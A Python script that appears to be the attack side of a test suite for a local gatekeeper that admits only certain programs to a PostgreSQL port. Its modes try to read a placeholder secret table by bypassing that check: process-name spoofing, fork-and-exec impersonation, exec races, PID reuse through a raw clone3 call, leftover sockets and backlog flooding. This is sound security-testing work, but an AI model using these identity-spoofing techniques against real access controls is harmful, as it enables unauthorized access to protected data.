"""The attacks' own moves. Usage: attack.py NAME PORT ARGS. Prints what it got."""
import ctypes
import errno
import os
import signal
import socket
import struct
import sys
import time

name, port, args = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
signal.alarm(18)


def say(text):
    print(text, flush=True)


def opened(source=None, timeout=8.0, blocking=True):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.settimeout(timeout)
    if source:
        s.bind(("127.0.0.1", source))
    if not blocking:
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", port))
        except BlockingIOError:
            pass
    else:
        s.connect(("127.0.0.1", port))
    s.set_inheritable(True)
    return s


def startup(s):
    body = struct.pack("!i", 196608) + b"user\0x\0database\0postgres\0\0"
    s.sendall(struct.pack("!i", len(body) + 4) + body)


def query(s, sql="SELECT secret FROM gold"):
    body = sql.encode() + b"\0"
    s.sendall(b"Q" + struct.pack("!i", len(body) + 4) + body)


def read(s, until=b"Z\0\0\0\5"):
    data = b""
    try:
        while until not in data:
            piece = s.recv(65536)
            if not piece:
                break
            data += piece
    except OSError as error:
        data += repr(error).encode()
    return data.decode("latin-1").replace("\0", " ")


def steal(s, label=""):
    """Speaks the protocol and shows whatever comes."""
    try:
        startup(s)
        say(label + read(s))
        query(s)
        say(label + read(s))
    except OSError as error:
        say(label + repr(error))


# Takes connections and never answers, so that a psql that connects to it just stands there.
sink = socket.socket()
sink.bind(("127.0.0.1", 0))
sink.listen(8)


def replace_by(program):
    """Becomes a program that does nothing but stand there for a while."""
    if os.path.basename(program) == "psql":
        host = f"host=127.0.0.1 port={sink.getsockname()[1]} connect_timeout=15"
        os.execv(program, [program, "-X", "-d", host])
    os.execv(program, [program, "15"])


if name == "plain":
    steal(opened())
elif name == "names":
    libc = ctypes.CDLL(None)
    libc.prctl(15, os.path.basename(args[0]).encode(), 0, 0, 0)
    pid = os.fork()
    if pid == 0:
        os.execv("/usr/bin/python3", [args[0], sys.argv[0], "plain", str(port)])
    os.waitpid(pid, 0)
elif name in ("exec", "exec-race"):
    s = opened()
    me = os.getpid()
    if os.fork() == 0:
        # The child keeps the socket and speaks, while its parent looks like the permitted program.
        if name == "exec":
            while not os.readlink(f"/proc/{me}/exe") == args[0]:
                time.sleep(0.001)
            say(f"standing {me}")
            time.sleep(0.3)
        steal(s)
        os.kill(me, signal.SIGKILL)
        os._exit(0)
    if name == "exec-race":
        time.sleep(int(args[1]) * 0.0002)
    replace_by(args[0])
elif name == "pid-reuse":
    program, uid = args[0], int(args[1])
    read_end, write_end = os.pipe()
    victim = os.fork()
    if victim == 0:
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
        s = opened()
        if os.fork() == 0:
            os.write(write_end, b"x")
            time.sleep(2.0)
            steal(s)
            os._exit(0)
        os._exit(0)
    os.waitpid(victim, 0)
    os.read(read_end, 1)
    libc = ctypes.CDLL(None, use_errno=True)
    want = (ctypes.c_int * 1)(victim)
    clone_args = (ctypes.c_uint64 * 11)(*([0] * 11))
    clone_args[4] = signal.SIGCHLD
    clone_args[8] = ctypes.addressof(want)
    clone_args[9] = 1
    got = libc.syscall(435, ctypes.byref(clone_args), ctypes.sizeof(clone_args))
    if got == 0:
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
        replace_by(program)
    if got != victim:
        say(f"clone3 gave {got}, errno {ctypes.get_errno()}")
        sys.exit(1)
    say(f"standing {got}")
    time.sleep(4.0)
    os.kill(got, signal.SIGKILL)
elif name in ("exec-later", "exit-later"):
    s = opened()
    startup(s)
    read(s)
    query(s)
    say("first " + read(s))
    me = os.getpid()
    if os.fork() == 0:
        if name == "exec-later":
            while not os.readlink(f"/proc/{me}/exe").endswith("sleep"):
                time.sleep(0.001)
        else:
            while os.getppid() == me:
                time.sleep(0.001)
        time.sleep(0.1)
        try:
            query(s)
            say("second " + read(s))
        except OSError as error:
            say("second " + repr(error))
        if name == "exec-later":
            os.kill(me, signal.SIGKILL)
        os._exit(0)
    if name == "exec-later":
        os.execv(args[0], [args[0], "15"])
    # The child speaks after this process has gone; whoever waits for the output gets it all.
    os._exit(0)
elif name == "bound":
    steal(opened(source=int(args[0])))
elif name == "fill":
    # More connections than the queue takes: the last ones hang in the handshake. Then all are gone at once.
    first, count = int(args[0]), int(args[1])
    import select

    sockets = []
    for source in range(first, first + count):
        try:
            sockets.append(opened(source=source, blocking=False))
        except OSError as error:
            if error.errno != errno.EMFILE:
                raise
            break
        _, writable, _ = select.select([], [sockets[-1]], [], 0.02 if len(sockets) > 100 else 1)
        if not writable:
            say(f"full after {len(sockets)}")
            break
    else:
        say(f"not full after {len(sockets)}")
elif name == "wait":
    first, count = int(args[0]), int(args[1])
    sockets = [opened(source=source) for source in range(first, first + count)]
    say(f"standing {os.getpid()}")
    time.sleep(15)
elif name == "take":
    first, count = int(args[0]), int(args[1])
    tried = 0
    for source in list(range(first, first + count))[:: max(1, count // 40)]:
        try:
            s = opened(source=source, timeout=3.0)
        except OSError:
            continue
        tried += 1
        steal(s)
        s.close()
    say(f"tried {tried}")
elif name == "direct":
    try:
        socket.create_connection((args[0], int(args[1])), timeout=3)
        say("connected")
    except OSError as error:
        say(errno.errorcode.get(error.errno, repr(error)))
else:
    sys.exit(f"unknown attack {name}")
